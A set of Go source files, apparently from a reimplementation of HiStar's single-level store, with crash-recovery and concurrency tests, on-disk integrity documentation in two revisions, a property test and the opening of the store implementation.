			if err := s2.VerifyLabelIndex(); err != nil {
				t.Fatalf("%s: %v", point, err)
			}
		}
	}
}

// TestGroupCommitPartialDestage tears the *destage* of a batch commit: on a
// write-cached disk the commit's flush destages the log header before the
// body (ascending offsets), so a partial destage can persist a committed
// length that points into unwritten or half-written records.  Recovery must
// reseal the log to its valid prefix; every ticket holder — all of whom were
// told the sync failed — must come back in either its prior committed state
// or its sealed new state, and the store must keep working (and keep its
// durability promises) after the reseal.
func TestGroupCommitPartialDestage(t *testing.T) {
	ids := []uint64{2, 7, 11, 19}
	oldData := bytes.Repeat([]byte("p"), 700)
	newData := bytes.Repeat([]byte("q"), 800)
	lbl := label.New(label.L1, label.P(label.Category(9), label.L3))
	errDestage := errors.New("power failed mid-destage")

	for budget := int64(0); budget <= 8<<10; budget += disk.SectorSize {
		d := disk.New(disk.Params{Sectors: crashSectors, WriteCache: true}, &vclock.Clock{})
		s, err := Format(d, crashOpts)
		if err != nil {
			t.Fatal(err)
		}
		for _, id := range ids {
			if err := s.PutLabeled(id, lbl, oldData); err != nil {
				t.Fatal(err)
			}
		}
		if err := s.Checkpoint(); err != nil {
			t.Fatal(err)
		}
		for _, id := range ids {
			if err := s.PutLabeled(id, lbl, newData); err != nil {
				t.Fatal(err)
			}
		}
		s.holdGroupCommit()
		wg, errs := launchHeldSyncs(t, s, ids)
		d.FailFlushAfter(budget, errDestage)
		s.releaseGroupCommit()
		wg.Wait()
		point := fmt.Sprintf("destage budget %d", budget)
		for i, err := range errs {
			if err == nil {
				t.Fatalf("%s: sync %d reported success across a torn flush", point, i)
			}
			if !errors.Is(err, errDestage) {
				t.Fatalf("%s: sync %d: %v", point, i, err)
			}
		}
		d.Crash() // the rest of the cache dies with the power
		s2, err := Open(d, crashOpts)
		if err != nil {
			t.Fatalf("%s: recovery: %v", point, err)
		}
		for _, id := range ids {
			got, err := s2.Get(id)
			if err != nil {
				t.Fatalf("%s: Get(%d): %v", point, id, err)
			}
			if !bytes.Equal(got, oldData) && !bytes.Equal(got, newData) {
				t.Fatalf("%s: object %d recovered %d bytes, neither old nor new", point, id, len(got))
			}
			if l, ok := s2.Label(id); !ok || !l.Equal(lbl) {
				t.Fatalf("%s: object %d label = %v, %v", point, id, l, ok)
			}
		}
		if err := s2.VerifyLabelIndex(); err != nil {
			t.Fatalf("%s: %v", point, err)
		}
		// The log was resealed to a valid prefix: the next sync commits after
		// it and survives a clean crash.
		final := bytes.Repeat([]byte("r"), 300)
		if err := s2.Put(ids[0], final); err != nil {
			t.Fatal(err)
		}
		if err := s2.SyncObject(ids[0]); err != nil {
			t.Fatalf("%s: sync after reseal: %v", point, err)
		}
		d.Crash()
		s3, err := Open(d, crashOpts)
		if err != nil {
			t.Fatalf("%s: second recovery: %v", point, err)
		}
		if got, err := s3.Get(ids[0]); err != nil || !bytes.Equal(got, final) {
			t.Fatalf("%s: post-reseal sync not durable: %v", point, err)
		}
	}
}

// TestConcurrentStoreStress races every store operation — Put, PutLabeled,
// Get, Delete, SyncObject, label scans, stats, checkpoints — across workers
// with disjoint id ranges, then verifies the final state against each
// worker's sequential expectation, both live and across a reopen.  CI runs
// it under -race.
func TestConcurrentStoreStress(t *testing.T) {
	d := disk.New(disk.Params{Sectors: 1 << 18, WriteCache: true}, &vclock.Clock{})
	s, err := Format(d, Options{LogSize: 1 << 20, MetaAreaSize: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	const (
		workers = 8
		span    = 4
		ops     = 120
	)
	type finalState struct {
		exists   bool
		data     []byte
		lbl      label.Label
		hasLabel bool
	}
	finals := make([]map[uint64]finalState, workers)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			r := rand.New(rand.NewSource(int64(w) + 77))
			final := make(map[uint64]finalState)
			base := uint64(w * span)
			for i := 0; i < ops; i++ {
				id := base + uint64(r.Intn(span))
				switch r.Intn(10) {
				case 0, 1, 2:
					data := randPayload(r)
					if err := s.Put(id, data); err != nil {
						t.Errorf("Put: %v", err)
						return
					}
					st := final[id]
					final[id] = finalState{exists: true, data: data, lbl: st.lbl, hasLabel: st.exists && st.hasLabel}
				case 3:
					data, lbl := randPayload(r), randLabel(r)
					if err := s.PutLabeled(id, lbl, data); err != nil {
						t.Errorf("PutLabeled: %v", err)
						return
					}
					final[id] = finalState{exists: true, data: data, lbl: lbl, hasLabel: true}
				case 4:
					if err := s.Delete(id); err != nil {
						t.Errorf("Delete: %v", err)
						return
					}
					final[id] = finalState{}
				case 5, 6:
					if st, ok := final[id]; ok && st.exists {
						got, err := s.Get(id)
						if err != nil || !bytes.Equal(got, st.data) {
							t.Errorf("Get(%d) = %d bytes, %v; want %d", id, len(got), err, len(st.data))
							return
						}
					}
				case 7:
					if err := s.SyncObject(id); err != nil {
						t.Errorf("SyncObject: %v", err)
						return
					}
				case 8:
					s.ObjectsWithLabel(randLabel(r).Fingerprint())
					s.Stats()
				case 9:
					if i%40 == 39 { // occasional whole-system checkpoints
						if err := s.Checkpoint(); err != nil {
							t.Errorf("Checkpoint: %v", err)
							return
						}
					} else if err := s.SyncObject(id); err != nil {
						t.Errorf("SyncObject: %v", err)
						return
					}
				}
			}
			finals[w] = final
		}(w)
	}
	wg.Wait()
	if t.Failed() {
		return
	}
	if err := s.VerifyLabelIndex(); err != nil {
		t.Fatal(err)
	}
	check := func(get func(uint64) ([]byte, error), lab func(uint64) (label.Label, bool), stage string) {
		for w := 0; w < workers; w++ {
			for id, want := range finals[w] {
				got, err := get(id)
				if !want.exists {
					if !errors.Is(err, ErrNoSuchObject) {
						t.Fatalf("%s: object %d should be gone: %v", stage, id, err)
					}
					continue
				}
				if err != nil || !bytes.Equal(got, want.data) {
					t.Fatalf("%s: object %d = %d bytes, %v; want %d", stage, id, len(got), err, len(want.data))
				}
				l, ok := lab(id)
				if ok != want.hasLabel || (ok && !l.Equal(want.lbl)) {
					t.Fatalf("%s: object %d label = %v, %v; want %v, %v", stage, id, l, ok, want.lbl, want.hasLabel)
				}
			}
		}
	}
	check(s.Get, s.Label, "live")
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	s2, err := Open(d, Options{LogSize: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	check(s2.Get, s2.Label, "reopened")
	if err := s2.VerifyLabelIndex(); err != nil {
		t.Fatal(err)
	}
}

// TestConcurrentSyncsSameObjectNeverRegress hammers a single object with
// concurrent Put+Sync pairs: because records are sealed and enqueued under
// the entry lock, per-object log order equals seal order, so recovery must
// land on a state the object actually passed through — and once any syncer
// has observed a successful commit, at least that state (or newer).
func TestConcurrentSyncsSameObjectNeverRegress(t *testing.T) {
	d := disk.New(disk.Params{Sectors: 1 << 18, WriteCache: true}, &vclock.Clock{})
	s, err := Format(d, Options{LogSize: 8 << 20})
	if err != nil {
		t.Fatal(err)
	}
	const writers = 8
	var (
		mu     sync.Mutex
		states = make(map[string]bool)
	)
	var wg sync.WaitGroup
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 25; i++ {
				data := []byte(fmt.Sprintf("writer %d rev %d", w, i))
				mu.Lock()
				states[string(data)] = true
				mu.Unlock()
				if err := s.Put(1, data); err != nil {
					t.Errorf("Put: %v", err)
					return
				}
				if err := s.SyncObject(1); err != nil {
					t.Errorf("Sync: %v", err)
					return
				}
			}
		}(w)
	}
	wg.Wait()
	if t.Failed() {
		return
	}
	d.Crash()
	s2, err := Open(d, Options{LogSize: 8 << 20})
	if err != nil {
		t.Fatal(err)
	}
	got, err := s2.Get(1)
	if err != nil {
		t.Fatal(err)
	}
	if !states[string(got)] {
		t.Fatalf("recovered state %q was never written", got)
	}
}

// TestPutLabeledSealsContentsAndLabelAtomically races PutLabeled against
// SyncObject on one object: because contents and label are installed under a
// single entry-lock hold, no sealed record can ever pair the labeled
// contents with a missing or stale label — so after any crash the recovered
// object, whatever revision it landed on, must carry its label.
func TestPutLabeledSealsContentsAndLabelAtomically(t *testing.T) {
	d := disk.New(disk.Params{Sectors: 1 << 18, WriteCache: true}, &vclock.Clock{})
	s, err := Format(d, Options{LogSize: 8 << 20})
	if err != nil {
		t.Fatal(err)
	}
	lbl := label.New(label.L1, label.P(label.Category(3), label.L3))
	var wg sync.WaitGroup
	wg.Add(2)
	go func() {
		defer wg.Done()
		for i := 0; i < 200; i++ {
			if err := s.PutLabeled(1, lbl, []byte(fmt.Sprintf("rev %d", i))); err != nil {
				t.Errorf("PutLabeled: %v", err)
				return
			}
		}
	}()
	go func() {
		defer wg.Done()
		for i := 0; i < 200; i++ {
			if err := s.SyncObject(1); err != nil {
				t.Errorf("Sync: %v", err)
				return
			}
		}
	}()
	wg.Wait()
	if t.Failed() {
		return
	}
	d.Crash()
	s2, err := Open(d, Options{LogSize: 8 << 20})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s2.Get(1); err != nil {
		if errors.Is(err, ErrNoSuchObject) {
			return // no sync committed before the crash: nothing to assert
		}
		t.Fatal(err)
	}
	got, ok := s2.Label(1)
	if !ok || !got.Equal(lbl) {
		t.Fatalf("labeled contents recovered without their label: %v, %v", got, ok)
	}
	if err := s2.VerifyLabelIndex(); err != nil {
		t.Fatal(err)
	}
}
