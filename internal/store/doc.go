// On-disk integrity reference.  (The package comment in store.go covers
// the layout, the segment-structured data region, the incremental
// checkpoint protocol, and the locking; this file documents the checksum
// formats, the checkpoint write schedule, the degradation ladder, and the
// quarantine semantics in one place.)
//
// # Checksums
//
// Every persistent structure carries a CRC32C (Castagnoli), chosen for its
// burst-detection properties: the generator polynomial has a factor of
// x+1, so any odd-weight error burst within one checksummed span is
// detected with certainty.
//
//   - Superblock: two 64-byte copies at offsets 0 and 512, each with a
//     CRC32C over bytes [0, 56) in its final u32.  Fields (LE u64): magic
//     "HIST", referenced metadata area (0 or 1), snapshot byte length, log
//     region size, metadata area size, format version (2), checkpoint
//     epoch.
//   - Metadata area header (48 bytes): magic "HMET", version (3), checkpoint
//     epoch, payload length, section count, CRC32C over the header's first
//     40 bytes.
//   - Metadata sections: each framed [tag u64][length u64][CRC32C u64]
//     [payload], the CRC covering the payload.  Tags: 1 object map, 2 free
//     extents, 3 labels, 4 fingerprint index, 5 segment table (base, size,
//     used triples for the append-only data segments; per-segment live
//     counts are derived from the object map at open).  Verification
//     requires every tag exactly once, in-bounds lengths, and no trailing
//     bytes, so a flipped tag or length never silently reassigns bytes
//     between sections.  A version-2 area (four sections, no segment
//     table) still verifies and loads: its objects all live in dedicated
//     extents, and the next checkpoint writes a five-section version-3
//     image — the upgrade needs no migration pass.
//   - Object extents: the object-map entry records a CRC32C of the
//     object's contents, computed when the checkpoint writes it to its
//     home (segment or dedicated extent) and verified on every uncached
//     read and every scrub pass.  A zero CRC field marks an object
//     migrated from a legacy image; the next checkpoint's backfill pass
//     reads, checksums, and records such extents (without rewriting them),
//     so a migrated image converges to fully verifiable.
//   - Write-ahead log: per-record and header CRCs (package wal).
//
// # Checkpoint write schedule
//
// An incremental checkpoint committing epoch E writes in this order, each
// step leaving the previously referenced snapshot intact:
//
//  1. SEAL (brief ckptMu write hold): append the epoch-E marker record to
//     the write-ahead log.  Records after the marker are exactly the syncs
//     the epoch-E snapshot might miss.
//  2. BODY (no ckptMu; serialized by ckptRun): write sealed objects into
//     append-only segments (or dedicated extents) — never over live data;
//     appends land beyond each segment's committed high-water mark, and
//     extents vacated by relocation, deletion, or the segment cleaner are
//     queued on a deferred-free list.  Then backfill missing contents
//     CRCs, run the cleaner, and only after every data write has issued
//     return the deferred extents to the allocator — so the epoch-E-1
//     snapshot's extents are never reused before epoch E commits.
//  3. Serialize the metadata (object map and allocator state read under
//     their locks; labels from the seal-time capture) into the area the
//     superblock does NOT reference, flush, then rewrite both superblock
//     copies referencing it at epoch E and flush again (all under sbMu, so
//     a concurrent scrub never reads the areas mid-rewrite).
//  4. FINISH: reclaim log records from before the epoch-E-1 marker.  The
//     E-1 generation is retained so a later torn epoch-E area can fall
//     back one snapshot and replay forward with zero committed-sync loss
//     (when the retained generation would starve the log, it degrades to
//     reclaiming up to E's own marker).
//
// A crash before the superblock flip recovers at epoch E-1 plus full log
// replay; after it, at epoch E plus replay of post-marker records.  Every
// boundary in between is exercised by the crash matrices in crash_test.go
// and incremental_test.go.
//
// # Degradation ladder
//
// Open never serves unverified state and never gives up while an intact
// copy remains.  From least to most degraded:
//
//  1. Clean: primary superblock copy verifies, the referenced metadata
//     area verifies at the superblock's epoch, the log replays from that
//     epoch's marker.
//  2. SuperblockFallback: the primary copy fails, the backup at offset 512
//     verifies and is used.  Nothing else changes.
//  3. IndexRebuilt: only the fingerprint-index section fails its CRC; the
//     index is rebuilt from the (intact) label section instead of failing
//     the mount.
//  4. MetaFallback: the referenced area fails; the alternate area is
//     accepted only if it verifies at a strictly older epoch (an equal or
//     newer epoch would mean an uncommitted checkpoint).  The write-ahead
//     log is then replayed from the older epoch's retained marker (or in
//     full) — FINISH keeps the previous generation, and a checkpoint's
//     freed extents rejoin the allocator only after its snapshot commits,
//     so falling back one snapshot loses no committed sync.
//  5. WALDamaged: a damaged log record or header truncates replay to the
//     valid prefix; the log is resealed past it.
//  6. Refusal: both superblock copies, or both metadata areas, are
//     damaged.  Open returns an error wrapping ErrCorrupt rather than
//     guessing.
//
// Which rungs fired is recorded in the RecoveryReport, immutable after
// Open; a degraded mount heals on the next checkpoint, which rewrites both
// the metadata and both superblock copies at a fresh epoch.
//
// # Quarantine
//
// A home extent whose contents fail CRC verification — on an uncached Get,
// during a scrub, or when the segment cleaner tries to copy it out —
// quarantines exactly that object: accesses return a QuarantineError
// (errors.Is-matching both ErrQuarantined and ErrCorrupt), SyncObject
// refuses to log the damaged bytes, and the ID stays enumerable via
// QuarantinedObjects.  The rest of the store serves normally (the cleaner
// additionally leaves the damaged object's whole segment in place — moving
// it would destroy the only, albeit damaged, copy).  A quarantine verdict
// is lifted by anything that replaces the damaged extent as the object's
// authority: a new Put, a Delete, a logged copy replayed at open, or the
// checkpoint relocation of a sealed dirty entry.  Because scrub now runs
// concurrently with checkpoint bodies, a scrub mismatch is re-validated
// against the live object map before the verdict — an extent the
// checkpoint has already superseded is stale, not damaged.  Detection and
// quarantine events are counted in IntegrityStats and surfaced through
// kernel stats and histar-bench's integrity section.
//
// The bit-rot harness in bitrot_test.go injects odd-weight flips into each
// structure above — including objects packed inside sealed segments — and
// asserts the matching rung, and only that rung, fires.

package store
