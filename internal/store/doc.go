// On-disk integrity reference.  (The package comment in store.go covers
// the layout and locking; this file documents the checksum formats, the
// degradation ladder, and the quarantine semantics in one place.)
//
// # Checksums
//
// Every persistent structure carries a CRC32C (Castagnoli), chosen for its
// burst-detection properties: the generator polynomial has a factor of
// x+1, so any odd-weight error burst within one checksummed span is
// detected with certainty.
//
//   - Superblock: two 64-byte copies at offsets 0 and 512, each with a
//     CRC32C over bytes [0, 56) in its final u32.  Fields (LE u64): magic
//     "HIST", referenced metadata area (0 or 1), snapshot byte length, log
//     region size, metadata area size, format version (2), checkpoint
//     epoch.
//   - Metadata area header (48 bytes): magic "HMET", version, checkpoint
//     epoch, payload length, section count, CRC32C over the header's first
//     40 bytes.
//   - Metadata sections: each framed [tag u64][length u64][CRC32C u64]
//     [payload], the CRC covering the payload.  Tags: 1 object map, 2 free
//     extents, 3 labels, 4 fingerprint index.  Verification requires every
//     tag exactly once, in-bounds lengths, and no trailing bytes, so a
//     flipped tag or length never silently reassigns bytes between
//     sections.
//   - Object extents: the object-map entry records a CRC32C of the
//     object's contents, computed when the checkpoint relocates it to its
//     home extent and verified on every uncached read and every scrub
//     pass.  A zero CRC field marks an object migrated from a legacy image
//     whose extent is unverifiable until the next relocation rewrites it.
//   - Write-ahead log: per-record and header CRCs (package wal).
//
// # Degradation ladder
//
// Open never serves unverified state and never gives up while an intact
// copy remains.  From least to most degraded:
//
//  1. Clean: primary superblock copy verifies, the referenced metadata
//     area verifies at the superblock's epoch, the log replays from the
//     rotation mark.
//  2. SuperblockFallback: the primary copy fails, the backup at offset 512
//     verifies and is used.  Nothing else changes.
//  3. IndexRebuilt: only the fingerprint-index section fails its CRC; the
//     index is rebuilt from the (intact) label section instead of failing
//     the mount.
//  4. MetaFallback: the referenced area fails; the alternate area is
//     accepted only if it verifies at a strictly older epoch (an equal or
//     newer epoch would mean an uncommitted checkpoint).  The write-ahead
//     log is then replayed in full — the log retains the previous
//     generation behind its rotation marker, and a checkpoint's freed
//     extents rejoin the allocator only one checkpoint later, so falling
//     back one snapshot loses no committed sync.
//  5. WALDamaged: a damaged log record or header truncates replay to the
//     valid prefix; the log is resealed past it.
//  6. Refusal: both superblock copies, or both metadata areas, are
//     damaged.  Open returns an error wrapping ErrCorrupt rather than
//     guessing.
//
// Which rungs fired is recorded in the RecoveryReport, immutable after
// Open; a degraded mount heals on the next checkpoint, which rewrites both
// the metadata and both superblock copies at a fresh epoch.
//
// # Quarantine
//
// A home extent whose contents fail CRC verification — on an uncached Get
// or during a scrub — quarantines exactly that object: accesses return a
// QuarantineError (errors.Is-matching both ErrQuarantined and ErrCorrupt),
// SyncObject refuses to log the damaged bytes, and the ID stays enumerable
// via QuarantinedObjects.  The rest of the store serves normally.  A
// quarantine verdict is lifted by anything that replaces the damaged
// extent as the object's authority: a new Put, a Delete, a logged copy
// replayed at open, or the checkpoint relocation of a dirty entry.
// Detection and quarantine events are counted in IntegrityStats and
// surfaced through kernel stats and histar-bench's integrity section.
//
// The bit-rot harness in bitrot_test.go injects odd-weight flips into each
// structure above and asserts the matching rung — and only that rung —
// fires.

package store
