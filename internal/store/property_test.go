package store

// Property test: random Put / PutLabeled / Delete / SyncObject / Checkpoint
// / reopen sequences are checked against the same reference model the crash
// harness uses (mirroring the internal/label property-test style).  Without
// fault injection, recovery is deterministic: after a crash-and-reopen the
// store must hold exactly the committed state — every durable object
// present with its committed contents, label, and index entry, and nothing
// else.

import (
	"bytes"
	"errors"
	"math/rand"
	"testing"

	"histar/internal/disk"
	"histar/internal/vclock"
)

func TestPropStoreMatchesReferenceModel(t *testing.T) {
	nSeeds, nOps := 12, 140
	if testing.Short() {
		nSeeds = 4
	}
	for seed := 0; seed < nSeeds; seed++ {
		r := rand.New(rand.NewSource(int64(seed)))
		d := disk.New(disk.Params{Sectors: crashSectors, WriteCache: false}, &vclock.Clock{})
		s, err := Format(d, crashOpts)
		if err != nil {
			t.Fatal(err)
		}
		m := newRefModel()
		for i := 0; i < nOps; i++ {
			if r.Intn(12) == 0 {
				// Crash (no cache on a write-through disk: just stop using
				// the store) and reopen: recovered state must be exactly
				// the committed model state.
				s = reopenAndCheck(t, d, m, seed, i)
				continue
			}
			op := genWorkload(r, 1)[0]
			if runWorkload(t, s, []wlOp{op}, m) {
				t.Fatalf("seed %d: unexpected fault", seed)
			}
			// Live-state invariants that hold with no crash at all.
			if op.kind != opCheckpoint {
				checkLiveObject(t, s, op.id, m.latest(op.id))
			}
		}
		// Graceful shutdown is a checkpoint: everything becomes durable.
		if err := s.Close(); err != nil {
			t.Fatal(err)
		}
		m.commitAll()
		reopenAndCheck(t, d, m, seed, nOps)
	}
}

func checkLiveObject(t *testing.T, s *Store, id uint64, want objState) {
	t.Helper()
	data, err := s.Get(id)
	if !want.exists {
		if !errors.Is(err, ErrNoSuchObject) {
			t.Fatalf("Get(%d) = %v, want ErrNoSuchObject", id, err)
		}
		return
	}
	if err != nil || !bytes.Equal(data, want.data) {
		t.Fatalf("Get(%d) = %d bytes, %v; want %d bytes", id, len(data), err, len(want.data))
	}
	lbl, ok := s.Label(id)
	if ok != want.hasLabel || (ok && !lbl.Equal(want.lbl)) {
		t.Fatalf("Label(%d) = %v, %v; want %v, %v", id, lbl, ok, want.lbl, want.hasLabel)
	}
}

// reopenAndCheck opens the image fresh and asserts it equals the model's
// committed state exactly — both directions, including the label index.
func reopenAndCheck(t *testing.T, dev disk.Device, m *refModel, seed, step int) *Store {
	t.Helper()
	s, err := Open(dev, crashOpts)
	if err != nil {
		t.Fatalf("seed %d step %d: reopen: %v", seed, step, err)
	}
	for id := range m.history {
		want := m.hist(id)[m.durableIdx[id]]
		// The model continues from the recovered (committed) state: any
		// uncommitted history died with the crash.
		m.history[id] = []objState{want}
		m.durableIdx[id] = 0
		data, err := s.Get(id)
		if !want.exists {
			if !errors.Is(err, ErrNoSuchObject) {
				t.Fatalf("seed %d step %d: object %d should be absent, Get = %v", seed, step, id, err)
			}
			continue
		}
		if err != nil || !bytes.Equal(data, want.data) {
			t.Fatalf("seed %d step %d: object %d = %d bytes, %v; want %d bytes", seed, step, id, len(data), err, len(want.data))
		}
		lbl, ok := s.Label(id)
		if ok != want.hasLabel || (ok && !lbl.Equal(want.lbl)) {
			t.Fatalf("seed %d step %d: object %d label = %v, %v; want %v, %v", seed, step, id, lbl, ok, want.lbl, want.hasLabel)
		}
		if want.hasLabel && lbl.Fingerprint() != want.lbl.Fingerprint() {
			t.Fatalf("seed %d step %d: object %d fingerprint drifted", seed, step, id)
		}
	}
	if err := s.VerifyLabelIndex(); err != nil {
		t.Fatalf("seed %d step %d: %v", seed, step, err)
	}
	return s
}
