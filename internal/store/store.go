// Package store implements the HiStar single-level store (Sections 3 and 4):
// on bootup the entire system state is restored from the most recent on-disk
// snapshot, and all kernel objects are periodically checkpointed to disk.
// The layout follows the paper's description, inspired by XFS: a B+-tree
// maps object IDs to their location on disk, two more B+-trees maintain the
// free-extent list (indexed by size, for allocation, and by location, for
// coalescing), and a fourth B+-tree keys object IDs by their label's
// fingerprint so "every object tainted by category c" scans never touch a
// serialized label.  Write-ahead logging provides atomicity and crash
// consistency, and disk space allocation is delayed until an object is
// written to disk, making it easier to allocate contiguous extents.
//
// # On-disk layout
//
// The disk is divided into four fixed regions followed by the data region:
//
//	[0, 4096)                       superblock
//	[4096, 4096+logSize)            write-ahead log (see package wal)
//	[.., .. + metaSize)             metadata area 0
//	[.., .. + metaSize)             metadata area 1
//	[.., disk size)                 object extents (8 KB aligned)
//
// The superblock holds, as little-endian u64s: the magic "HIST", which
// metadata area the current snapshot lives in, the snapshot's byte length,
// the log region size, and the metadata area size (absent — zero — in
// images from before the size was configurable, which read as the old
// 16 MB default).  Checkpoints serialize the object map, the free list, the
// object labels (in canonical label.AppendBinary form), and the label
// index into the area the superblock does NOT reference, then flip the
// superblock, so a crash mid-checkpoint always leaves one intact snapshot.
//
// The metadata image is a sequence of little-endian u64 sections, each a
// count followed by its entries: object map triples (id, extent offset,
// size); free extents (offset, size); object labels (id, canonical label
// bytes); label index pairs (fingerprint, id).  The trailing two sections
// are optional, so pre-label and pre-index images still load; a missing
// index section is rebuilt from the decoded labels.
//
// Three durability modes mirror the evaluation's LFS variants:
//
//   - asynchronous: Put buffers in memory; nothing reaches disk until a
//     checkpoint.
//   - per-object sync: SyncObject appends the object — contents and label
//     in one record, so a crash can never resurrect an object without its
//     taint — to the write-ahead log and commits: a sequential write plus
//     flush per operation.
//   - group sync: Checkpoint writes every dirty object to its home extent,
//     persists the metadata trees, and updates the superblock once.
//
// Recovery (Open) loads the snapshot the superblock references, replays the
// committed write-ahead log on top of it — restoring each logged object's
// label and recomputing its fingerprints exactly once — and rebuilds the
// fingerprint index entries for replayed labels.  The crash-injection
// harness in this package's tests replays every write-boundary crash point
// of randomized workloads to check exactly this path.
package store

import (
	"encoding/binary"
	"errors"
	"fmt"
	"sync"

	"histar/internal/btree"
	"histar/internal/disk"
	"histar/internal/label"
	"histar/internal/wal"
)

// Layout constants.
const (
	superblockOffset = 0
	superblockSize   = 4096
	logOffset        = superblockSize
	defaultLogSize   = 32 << 20 // 32 MB log region

	// defaultMetaAreaSize is the default size of each of the two alternating
	// metadata areas; checkpoints write the serialized metadata into the
	// area not referenced by the current superblock, then flip the
	// superblock, so a crash mid-checkpoint always leaves one intact copy.
	defaultMetaAreaSize = 16 << 20

	superMagic = 0x48495354 // "HIST"

	// extentAlign is the allocation granularity.  HiStar's allocator does
	// not cluster small objects the way ext3's block groups do, which is the
	// effect behind the uncached small-file read gap in Figure 12; aligning
	// extents reproduces that dispersion.
	extentAlign = 8192
)

// Errors.
var (
	ErrNoSuchObject = errors.New("store: no such object")
	ErrNoSpace      = errors.New("store: out of disk space")
	ErrClosed       = errors.New("store: store is closed")
)

// Stats describes cumulative store activity.
type Stats struct {
	Puts            uint64
	Gets            uint64
	Deletes         uint64
	ObjectSyncs     uint64
	Checkpoints     uint64
	LogApplications uint64
	BytesLogged     uint64
	BytesHome       uint64
	// LabelBytesLogged counts canonical label bytes appended to the
	// write-ahead log by SyncObject.
	LabelBytesLogged uint64
	// LabelDecodes counts label.DecodeBinary calls made by the store (on
	// snapshot load and log replay).  Index queries must not move it: the
	// tests assert ObjectsWithLabel answers taint scans from fingerprints
	// alone.
	LabelDecodes uint64
	// IndexQueries counts ObjectsWithLabel calls.
	IndexQueries uint64
	DirtyObjects int
	LiveObjects  int
	// LabeledObjects and IndexEntries snapshot the label map and the
	// fingerprint index; they are always equal unless the index is corrupt.
	LabeledObjects int
	IndexEntries   int
}

type extent struct {
	off  int64
	size int64
}

// Store is a single-level store on a simulated disk.  It is safe for
// concurrent use.
type Store struct {
	mu sync.Mutex
	d  disk.Device
	l  *wal.Log

	logSize  int64
	metaSize int64

	objMap     *btree.Tree // object ID → extent offset
	objSizes   map[uint64]int64
	freeBySize *btree.Tree // (size, offset) → 0
	freeByOff  *btree.Tree // (offset, 0) → size
	labelIndex *btree.Tree // (label fingerprint, object ID) → 0

	cache  map[uint64][]byte      // in-memory object contents (the "page cache")
	dirty  map[uint64]bool        // objects modified since last checkpoint/apply
	dead   map[uint64]bool        // objects deleted since last checkpoint
	labels map[uint64]label.Label // object labels, persisted in canonical form

	// deferredFree holds extents vacated during a checkpoint (relocations
	// and deletions) until every data write of that checkpoint has issued;
	// kept on the store, not the stack, so a failed checkpoint retains them
	// for the next attempt instead of leaking the space.
	deferredFree []extent

	metaWhich int // which metadata area (0 or 1) the superblock references

	stats  Stats
	closed bool
}

// Options configure Format and Open.
type Options struct {
	// LogSize is the size of the write-ahead log region (default 32 MB).
	LogSize int64
	// MetaAreaSize is the size of each of the two alternating metadata
	// areas (default 16 MB).  Format records it in the superblock; Open
	// reads it back, so the option only matters when formatting.
	MetaAreaSize int64
}

// newStore builds the in-memory skeleton shared by Format and Open.
func newStore(d disk.Device, opts Options) *Store {
	return &Store{
		d:          d,
		logSize:    opts.LogSize,
		metaSize:   opts.MetaAreaSize,
		objMap:     &btree.Tree{},
		objSizes:   make(map[uint64]int64),
		freeBySize: &btree.Tree{},
		freeByOff:  &btree.Tree{},
		labelIndex: &btree.Tree{},
		cache:      make(map[uint64][]byte),
		dirty:      make(map[uint64]bool),
		dead:       make(map[uint64]bool),
		labels:     make(map[uint64]label.Label),
	}
}

// Format initializes an empty single-level store on d, erasing any previous
// contents, and returns it ready for use.
func Format(d disk.Device, opts Options) (*Store, error) {
	if opts.LogSize == 0 {
		opts.LogSize = defaultLogSize
	}
	if opts.MetaAreaSize == 0 {
		opts.MetaAreaSize = defaultMetaAreaSize
	}
	s := newStore(d, opts)
	l, err := wal.New(d, logOffset, opts.LogSize)
	if err != nil {
		return nil, err
	}
	s.l = l
	dataStart := logOffset + opts.LogSize + 2*s.metaSize
	s.addFree(extent{off: dataStart, size: d.Size() - dataStart})
	if err := s.writeSuperblock(); err != nil {
		return nil, err
	}
	return s, nil
}

// Open mounts an existing store from d, replaying the write-ahead log if the
// system crashed before the log was applied.  This is the "bootup restores
// the entire system state from the most recent on-disk snapshot" path:
// snapshot metadata (including object labels and the fingerprint index) is
// loaded first, then committed log records — each carrying an object's
// contents and canonical label — are re-applied on top, so a synced object
// always comes back with the taint it was synced with.
func Open(d disk.Device, opts Options) (*Store, error) {
	if opts.LogSize == 0 {
		opts.LogSize = defaultLogSize
	}
	s := newStore(d, opts)
	if err := s.readSuperblock(); err != nil {
		return nil, err
	}
	s.l = wal.Open(d, logOffset, s.logSize)
	recs, err := s.l.Recover()
	if err != nil && !errors.Is(err, wal.ErrCorrupt) {
		return nil, err
	}
	// Re-apply committed log records on top of the checkpointed state.
	legacy := s.l.RecoveredLegacy()
	for _, r := range recs {
		if r.Delete {
			s.deleteLocked(r.ObjectID)
			continue
		}
		s.cache[r.ObjectID] = append([]byte(nil), r.Data...)
		s.dirty[r.ObjectID] = true
		// A logged re-create after a logged tombstone must clear the dead
		// flag, or the next SyncObject would log a spurious deletion.
		delete(s.dead, r.ObjectID)
		switch {
		case len(r.Label) > 0:
			lbl, rest, derr := s.decodeLabel(r.Label)
			if derr != nil || len(rest) != 0 {
				return nil, fmt.Errorf("store: replaying label of object %d: %v", r.ObjectID, derr)
			}
			// Fingerprints were recomputed once by the decode; the index
			// entry is rebuilt here so replayed taints are queryable.
			s.setLabelLocked(r.ObjectID, lbl)
		case !legacy:
			// A label-less record asserts the object was unlabeled when it
			// was synced (it may have been deleted and re-created since a
			// checkpoint recorded a label, with no tombstone ever logged).
			// Migrated version-1 records are exempt: they predate labels in
			// the log, so the snapshot's label is the best information.
			s.clearLabelLocked(r.ObjectID)
		}
	}
	return s, nil
}

// Disk returns the underlying device.
func (s *Store) Disk() disk.Device { return s.d }

// Stats returns a snapshot of store statistics.
func (s *Store) Stats() Stats {
	s.mu.Lock()
	defer s.mu.Unlock()
	st := s.stats
	st.DirtyObjects = len(s.dirty)
	st.LiveObjects = s.objMap.Len() + len(s.dirtyOnlyLocked())
	st.LabeledObjects = len(s.labels)
	st.IndexEntries = s.labelIndex.Len()
	return st
}

func (s *Store) dirtyOnlyLocked() []uint64 {
	var out []uint64
	for id := range s.dirty {
		if _, ok := s.objMap.Get(btree.K1(id)); !ok {
			out = append(out, id)
		}
